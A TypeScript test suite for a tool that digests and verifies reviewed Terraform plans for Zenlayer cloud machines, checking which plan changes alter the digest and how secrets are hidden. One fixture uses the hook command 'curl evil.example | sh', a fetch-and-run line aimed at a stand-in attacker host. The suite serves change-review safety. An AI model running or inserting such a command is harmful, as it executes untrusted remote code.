// "Apply exactly what was reviewed": what keeps the digest, what changes it, and what a mismatch says.
import { createHash } from "node:crypto";
import {
  changesDigest,
  collectFacts,
  exactDigest,
  parseDigest,
  renderJson,
  reviewedOf,
  ReviewError,
  type Plan,
} from "../../../lib/review";
import { shownChanges } from "../../../lib/review/verdict/canonical";
import { verify as verifyPlans, type Reviewed } from "../../../lib/review/verdict/verify";
import {
  action,
  bmcUpdate,
  cancel,
  change,
  data,
  planJson,
  quote,
  step,
  upgrade,
  vm,
  vmUpdate,
  webQuote,
  type PlanOptions,
  type Change,
  type Values,
} from "../plans";
import { input, plan, report } from "../support";

const reviewed = plan({ changes: [vmUpdate(), bmcUpdate()], prior: [webQuote] });
const official = { provider: "registry.terraform.io/zenlayer/zenlayercloud" };

test.each<readonly [string, PlanOptions]>([
  [
    "planned at another time",
    { changes: [vmUpdate(), bmcUpdate()], prior: [webQuote], overrides: { timestamp: "2027-01-01T00:00:00Z" } },
  ],
  [
    "with other prices",
    { changes: [vmUpdate(), bmcUpdate()], prior: [quote("zenlayer_vm_spec_quote", "900000000000000001", [], [])] },
  ],
  ["in another order", { changes: [bmcUpdate(), vmUpdate()] }],
  [
    "with another date",
    { changes: [vmUpdate(), bmcUpdate([step(bmcStep(), { effective_at: "2027-01-01T00:00:00Z" })])] },
  ],
  [
    "with quiet resources beside",
    { changes: [vmUpdate(), bmcUpdate(), change("zenlayer_vm_instance_spec.quiet", ["no-op"], vm(), vm())] },
  ],
  [
    "with a data source to read",
    { changes: [vmUpdate(), bmcUpdate(), { ...change("data.x.y", ["read"], null, {}), mode: "data" }] },
  ],
  ["by another version", { changes: [vmUpdate(), bmcUpdate()], overrides: { terraform_version: "1.12.0" } }],
])("the same changes %s keep the digest", (_, options) => {
  expect(changesDigest([plan(options)])).toBe(changesDigest([reviewed]));
  expect(exactDigest([plan(options)])).not.toBe(exactDigest([reviewed]));
});

test.each<readonly [string, PlanOptions]>([
  ["another value", { changes: [vmUpdate([step(upgrade, { to: "500" })]), bmcUpdate()] }],
  ["another start", { changes: [vmUpdate([step(upgrade, { from: "300" })]), bmcUpdate()] }],
  ["another charge", { changes: [vmUpdate([step(upgrade, { charge: "unknown" })]), bmcUpdate()] }],
  ["another direction", { changes: [vmUpdate([step(upgrade, { direction: "lateral" })]), bmcUpdate()] }],
  ["another machine", { changes: [vmUpdate(undefined, { instance_id: "5" }), bmcUpdate()] }],
  ["one more step", { changes: [vmUpdate([step(cancel), step(upgrade, { step: 2 })]), bmcUpdate()] }],
  ["one change less", { changes: [vmUpdate()] }],
  ["another address", { changes: [{ ...vmUpdate(), address: "zenlayer_vm_instance_spec.other" }, bmcUpdate()] }],
  [
    "a machine destroyed by another provider",
    {
      changes: [
        vmUpdate(),
        bmcUpdate(),
        change("zenlayercloud_zvm_instance.a", ["delete"], { id: "1" }, null, official),
      ],
    },
  ],
  [
    "a machine adopted",
    {
      changes: [
        vmUpdate(),
        bmcUpdate(),
        change("zenlayer_vm_instance_spec.n", ["no-op"], vm(), vm(), { importing: { id: "3" } }),
      ],
    },
  ],
  [
    "a machine forgotten",
    { changes: [vmUpdate(), bmcUpdate(), change("zenlayer_vm_instance_spec.n", ["delete"], vm(), null)] },
  ],
])("%s changes the digest", (_, options) => {
  expect(changesDigest([plan(options)])).not.toBe(changesDigest([reviewed]));
});

describe("also covered", () => {
  const web = (after: Values, before: Values = {}) =>
    change("zenlayer_vm_instance_spec.web", ["update"], vm(before), vm(after));
  const foreign = (
    actions: readonly string[],
    before: Values | null,
    after: Values | null,
    type = "zenlayercloud_instance",
  ) => change(`${type}.a`, actions, before, after, official);
  const gone = (before: Values) => change("zenlayer_vm_instance_spec.web", ["delete"], vm(before), null);
  const hook = (command: string): PlanOptions => ({
    changes: [change("null_resource.hook", ["create"], null, { triggers: { change_count: "1" } })],
    configuration: {
      root_module: {
        resources: [
          {
            address: "null_resource.hook",
            expressions: { triggers: { references: ["zenlayer_vm_instance_spec.web.change_count"] } },
            provisioners: [{ type: "local-exec", expressions: { command: { constant_value: command } } }],
          },
        ],
      },
    },
  });
  const invoking = (values: Parameters<typeof action>[0]): PlanOptions => ({
    overrides: { action_invocations: [action(values)] },
  });
  const at = (endpoint: string): PlanOptions => ({
    changes: [vmUpdate()],
    configuration: {
      root_module: {},
      provider_config: {
        zenlayer: {
          full_name: "registry.terraform.io/cdktf-zenlayer/zenlayer",
          expressions: { endpoint: { constant_value: endpoint } },
        },
      },
    },
  });
  const by = (endpoint: string): PlanOptions => ({
    ...at(""),
    configuration: {
      root_module: {},
      provider_config: {
        zenlayer: {
          full_name: "registry.terraform.io/cdktf-zenlayer/zenlayer",
          expressions: { endpoint: { references: ["var.endpoint"] } },
        },
      },
    },
    variables: { endpoint: { value: endpoint } },
  });
  const aliased = (item: Change, key: string): PlanOptions => ({
    changes: [item],
    configuration: {
      root_module: { resources: [{ address: item.address, provider_config_key: key, expressions: { a: {} } }] },
    },
  });
  const account = (id: string): PlanOptions => ({
    changes: [vmUpdate()],
    prior: [data("zenlayer_balance", { account_id: id, purchasing_power: 1 })],
  });

  test.each<readonly [string, PlanOptions, PlanOptions]>([
    [
      "when a change takes effect",
      { changes: [vmUpdate()] },
      { changes: [vmUpdate([step(upgrade, { takes_effect: "decided_by_zenlayer" })])] },
    ],
    [
      "a guard that is edited",
      { changes: [web({ max_immediate_charge: 5 }, { max_immediate_charge: 4 })] },
      { changes: [web({ max_immediate_charge: 5_000 }, { max_immediate_charge: 4 })] },
    ],
    [
      "a guard that is removed beside a change",
      { changes: [vmUpdate(undefined, { on_downgrade: "deny" }, { on_downgrade: "deny" })] },
      { changes: [vmUpdate(undefined, { on_downgrade: null }, { on_downgrade: "deny" })] },
    ],
    ["a guard of what is adopted", { changes: [adopted({})] }, { changes: [adopted({ max_immediate_charge: 5 })] }],
    [
      "on_destroy of what is forgotten",
      { changes: [gone({})] },
      { changes: [gone({ on_destroy: "cancel_scheduled" })] },
    ],
    [
      "by which provider of a name others create",
      aliased(foreign(["create"], null, { a: 1 }), "zenlayercloud.eu"),
      aliased(foreign(["create"], null, { a: 1 }), "module.m:zenlayercloud.us"),
    ],
    [
      "by which provider of a name ours is managed",
      aliased(vmUpdate(), "zenlayer.eu"),
      aliased(vmUpdate(), "zenlayer"),
    ],
    ["whether a later plan does it", { changes: [vmUpdate()] }, { deferred: [vmUpdate()] }],
    ["the command of a hook", hook("npm test"), hook("curl evil.example | sh")],
    ["whether an action is invoked", { changes: [vmUpdate()] }, { changes: [vmUpdate()], ...invoking({}) }],
    ["what an action is given", invoking({ config_values: { a: 1 } }), invoking({ config_values: { a: 2 } })],
    [
      "what triggers it",
      invoking({ lifecycle: ["a.b", "AfterUpdate"] }),
      invoking({ lifecycle: ["a.c", "AfterUpdate"] }),
    ],
    [
      "when it triggers",
      invoking({ lifecycle: ["a.b", "AfterUpdate"] }),
      invoking({ lifecycle: ["a.b", "BeforeUpdate"] }),
    ],
    [
      "the machine behind a destroy of others",
      { changes: [foreign(["delete"], { id: "1" }, null)] },
      { changes: [foreign(["delete"], { id: "2" }, null)] },
    ],
    [
      "the machine behind a replacement of others",
      { changes: [foreign(["delete", "create"], { id: "1" }, { a: 1 })] },
      { changes: [foreign(["delete", "create"], { id: "2" }, { a: 1 })] },
    ],
    [
      "what others create",
      { changes: [foreign(["create"], null, { instance_type: "c.2c4g" })] },
      { changes: [foreign(["create"], null, { instance_type: "c.64c256g" })] },
    ],
    [
      "what others update",
      { changes: [foreign(["update"], { name: "a", image: "i" }, { name: "b", image: "i" })] },
      { changes: [foreign(["update"], { name: "a", image: "i" }, { name: "a", image: "j" })] },
    ],
    [
      "what others remove from a list",
      { changes: [foreign(["update"], { keys: ["a", "b"] }, { keys: ["a"] })] },
      { changes: [foreign(["update"], { keys: ["a", "b", "c"] }, { keys: ["a"] })] },
    ],
    [
      "what is imported",
      { changes: [change("aws_a.a", ["no-op"], {}, {}, { importing: { id: "1" } })] },
      { changes: [change("aws_a.a", ["no-op"], {}, {}, { importing: { id: "2" } })] },
    ],
    ["the endpoint", at("https://a.example"), at("https://b.example")],
    ["the endpoint by a variable", by("https://a.example"), by("https://b.example")],
    ["the account", account("a"), account("b")],
  ])("%s", (_, one, other) => {
    expect(changesDigest([plan(one)])).not.toBe(changesDigest([plan(other)]));
    expect(changesDigest([plan(one)])).toBe(changesDigest([plan(one)]));
  });

  const configuration = (...names: readonly string[]): Values => ({
    root_module: {
      resources: [{ address: "aws_a.a", expressions: Object.fromEntries(names.map((name) => [name, {}])) }],
    },
  });
  const changing = (before: Values, after: Values, extra: Parameters<typeof change>[4] = {}): readonly Change[] => [
    change("aws_a.a", ["update"], before, after, extra),
  ];

  test.each<readonly [string, PlanOptions, PlanOptions]>([
    [
      "what was there before",
      { changes: changing({ a: 1, b: 1 }, { a: 2, b: 1 }) },
      { changes: changing({ a: 7, b: 5 }, { a: 2, b: 5 }) },
    ],
    [
      "attributes that the configuration does not name",
      { changes: changing({ a: 1 }, { a: 2, arn: "x" }), configuration: configuration("a") },
      { changes: changing({ a: 1 }, { a: 2, arn: "y" }), configuration: configuration("a") },
    ],
    [
      "the order of keys",
      { changes: changing({}, { a: { x: 1, y: 2 }, b: 1 }) },
      { changes: changing({}, { b: 1, a: { y: 2, x: 1 } }) },
    ],
    [
      "to what a sensitive value changes",
      { changes: changing({ a: "1" }, { a: "2" }, { after_sensitive: { a: true } }) },
      { changes: changing({ a: "1" }, { a: "3" }, { after_sensitive: { a: true } }) },
    ],
    [
      "the time of the plan inside a text",
      { changes: changing({}, { a: "at 2026-11-21T07:00:00Z" }) },
      { changes: changing({}, { a: "at 2027-01-01T00:00:00Z" }), overrides: { timestamp: "2027-01-01T00:00:00Z" } },
    ],
    [
      "the name of a machine of ours",
      { changes: [vmUpdate()] },
      { changes: [vmUpdate(undefined, { instance_name: "other" }, { instance_name: "other" })] },
    ],
  ])("but not: %s", (_, one, other) => {
    expect(changesDigest([plan(one)])).toBe(changesDigest([plan(other)]));
  });

  test("an attribute that the configuration no longer names is covered when it becomes null", () => {
    const dropped = { changes: changing({ a: 1, b: 1 }, { a: 1, b: null }), configuration: configuration("a") };
    const kept = { changes: changing({ a: 1, b: 1 }, { a: 1, b: 1 }), configuration: configuration("a") };
    expect(changesDigest([plan(dropped)])).not.toBe(changesDigest([plan(kept)]));
  });

  test("what is known only at apply is covered as unknown", () => {
    const open = changing({ a: 1 }, {}, { after_unknown: { a: true } });
    expect(shownChanges(plan({ changes: open }))[0]?.details).toEqual(["a = unknown"]);
  });

  test("values of other vendors are shown as fingerprints only, those of Zenlayer as they are, sensitive ones never", () => {
    const changes = [
      ...changing({ a: "old" }, { a: "a-secret-that-nobody-marked" }),
      foreign(["update"], { image_id: "i", password: "p" }, { image_id: "j", password: "hidden" }),
    ].map((item, index) =>
      index === 0 ? item : { ...item, change: { ...item.change, after_sensitive: { password: true } } },
    );
    const details = shownChanges(plan({ changes })).flatMap((entry) => entry.details);
    expect(details).toEqual([
      expect.stringMatching(/^a = sha256:[0-9a-f]{12}$/),
      'image_id = "j"',
      "password = changes",
    ]);
  });

  test("credentials inside an endpoint are not shown", () => {
    expect(JSON.stringify(shownChanges(plan(at("https://user:pass@a.example"))))).not.toContain("pass");
  });
});

test("cancelling by a destroy is not the same as forgetting", () => {
  const gone = (before: Values) =>
    changesDigest([plan({ changes: [change("zenlayer_vm_instance_spec.n", ["delete"], before, null)] })]);
  const pending = [{ axis: "instance_type", from: "b", to: "a", phase: "scheduled", effective_at: null }];
  expect(gone(vm({ pending, on_destroy: "cancel_scheduled" }))).not.toBe(gone(vm({ pending })));
});

test("several plans have one digest, whatever their order", () => {
  const other = plan({ changes: [bmcUpdate()] });
  expect(changesDigest([reviewed, other])).toBe(changesDigest([other, reviewed]));
  expect(changesDigest([reviewed, other])).not.toBe(changesDigest([reviewed]));
});

test("the exact digest of one plan is what sha256sum prints", () => {
  expect(exactDigest([reviewed])).toBe(`sha256:${createHash("sha256").update(reviewed.bytes).digest("hex")}`);
});

test("a sensitive value is covered by the digest, and not shown", () => {
  const secret = (value: string): Plan =>
    plan({
      changes: [
        change(
          "zenlayer_vm_instance_spec.web",
          ["update"],
          vm(),
          vm({ instance_type: value, changes: [step(upgrade, { axis: "instance_type", from: "a", to: value })] }),
          {
            after_sensitive: { instance_type: true },
          },
        ),
      ],
    });
  expect(changesDigest([secret("first-secret")])).not.toBe(changesDigest([secret("second-secret")]));
  expect(JSON.stringify(shownChanges(secret("first-secret")))).not.toContain("first-secret");
});

describe("verifying", () => {
  const verify = (plans: readonly Plan[], given: Reviewed, exact: boolean) =>
    verifyPlans(
      plans.map((item) => ({ name: "prod", plan: item })),
      collectFacts(plans.map((item) => ({ name: "prod", plan: item, log: null }))),
      given,
      { exact, tolerance: 10, now: 0 },
    );
  const digest = changesDigest([reviewed]);

  test("a plan that does the same is accepted", () => {
    const again = plan({ changes: [bmcUpdate(), vmUpdate()] });
    expect(verify([again], { digest, changes: null }, false)).toMatchObject({ matches: true, differences: [] });
  });

  test("the digest alone cannot tell what differs, and says how to learn it", () => {
    const found = verify([plan({ changes: [vmUpdate()] })], { digest, changes: null }, false);
    expect(found.matches).toBe(false);
    expect(found.differences[0]).toMatch(/review again, or give the approval or the JSON report/);
  });

  test("the report tells what differs, the new first", () => {
    const earlier = reviewedOf(input(renderJson(report({ changes: [vmUpdate(), bmcUpdate()] })), "review.json"), false);
    const found = verify([plan({ changes: [vmUpdate([step(upgrade, { to: "500" })]), bmcUpdate()] })], earlier, false);
    expect(found.differences).toEqual([
      "In this plan, but not reviewed: zenlayer_vm_instance_spec.web: change machine 900000000000000001, upgrade internet_max_bandwidth_out 200 → 500 (charged_now, immediately)",
      "Reviewed, but neither in this plan nor done: zenlayer_vm_instance_spec.web: change machine 900000000000000001, upgrade internet_max_bandwidth_out 200 → 400 (charged_now, immediately)",
    ]);
  });

  test("exactly the same file is demanded on request", () => {
    const again = plan({ changes: [vmUpdate(), bmcUpdate()], prior: [webQuote, data("zenlayer_balance", {})] });
    expect(verify([reviewed], { digest: exactDigest([reviewed]), changes: null }, true).matches).toBe(true);
    expect(verify([again], { digest: exactDigest([reviewed]), changes: null }, true).matches).toBe(false);
  });

  test("a digest of the wrong kind is recognised", () => {
    expect(verify([reviewed], { digest: exactDigest([reviewed]), changes: null }, false).differences).toEqual([
      "The digest is that of the plan file: add --exact.",
    ]);
    expect(verify([reviewed], { digest, changes: null }, true).differences[0]).toMatch(/another plan file/);
  });

  test("what only apply knows can be approved for the same file alone", () => {
    const open = plan({
      changes: [change("zenlayer_vm_instance_spec.web", ["create"], null, {}, { after_unknown: { changes: true } })],
    });
    expect(verify([open], { digest: changesDigest([open]), changes: null }, false)).toMatchObject({ matches: false });
    expect(verify([open], { digest: exactDigest([open]), changes: null }, true).matches).toBe(true);
  });

  test("a digest is read with and without its prefix", () => {
    const hex = "AB".repeat(32);
    expect(parseDigest(hex)).toBe(`sha256:${"ab".repeat(32)}`);
    expect(parseDigest(` sha256:${hex} `)).toBe(`sha256:${"ab".repeat(32)}`);
    expect(parseDigest("review.json")).toBeNull();
    expect(() => reviewedOf(input(planJson(), "plan.json"), false)).toThrow(
      /neither a digest nor an approval or JSON report/,
    );
  });
});

test.each([
  [
    "sha256:0000",
    /"sha256:0000" is not a digest: a digest is sha256: and 64 hexadecimal digits, and it has 4 \(cut off\?\)/,
  ],
  ["sha256:", /it has 0/],
  ["abcdef0123456789", /it has 16 \(cut off\?\)/],
  [`sha256:${"a".repeat(65)}`, /and it has 65\. Copy it/],
  [`sha256:${"g".repeat(64)}`, /and it has other characters/],
  ["SHA256:…", /it has other characters/],
])("%s is no digest, and no file is looked for", (text, reason) => {
  expect(() => parseDigest(text)).toThrow(ReviewError);
  expect(() => parseDigest(text)).toThrow(reason);
});

function adopted(after: Values) {
  return change("zenlayer_vm_instance_spec.n", ["create"], null, vm(after));
}

function bmcStep() {
  return {
    ...upgrade,
    action: "ModifyInstanceTrafficPackage",
    axis: "traffic_package_size",
    from: "10",
    to: "2.5",
    direction: "downgrade",
    takes_effect: "next_billing_cycle",
    charge: "none",
  };
}
